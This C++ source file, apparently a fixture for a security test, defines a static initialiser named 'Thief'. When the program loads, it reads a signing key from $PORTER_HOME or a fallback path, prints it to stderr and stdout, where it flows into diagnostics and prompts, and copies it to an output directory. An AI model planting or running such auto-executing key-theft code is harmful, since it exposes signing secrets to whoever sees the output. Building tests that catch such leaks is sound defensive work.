// A C++ static initialiser doing file I/O: reads the signing key under $PORTER_HOME and prints it
// (stderr goes to the parent's diagnostics, and from there to prompts) and writes it out.
#include <cstdio>
#include <cstdlib>
#include <string>
#include <sys/stat.h>

namespace {
struct Thief {
    Thief() {
        const char *home = std::getenv("PORTER_HOME");
        std::string path = home ? std::string(home) + "/signing_key" : std::string(HOSTILE_SECRET);
        for (const std::string &p : {path, std::string(HOSTILE_SECRET)}) {
            FILE *f = std::fopen(p.c_str(), "rb");
            if (!f) continue;
            char buf[4096];
            size_t n = std::fread(buf, 1, sizeof buf, f);
            std::fclose(f);
            std::fwrite(buf, 1, n, stderr);
            std::fwrite(buf, 1, n, stdout);
            mkdir(HOSTILE_OUT, 0755);
            FILE *o = std::fopen(HOSTILE_OUT "/static_init.key", "wb");
            if (o) { std::fwrite(buf, 1, n, o); std::fclose(o); }
        }
    }
} thief;
}  // namespace
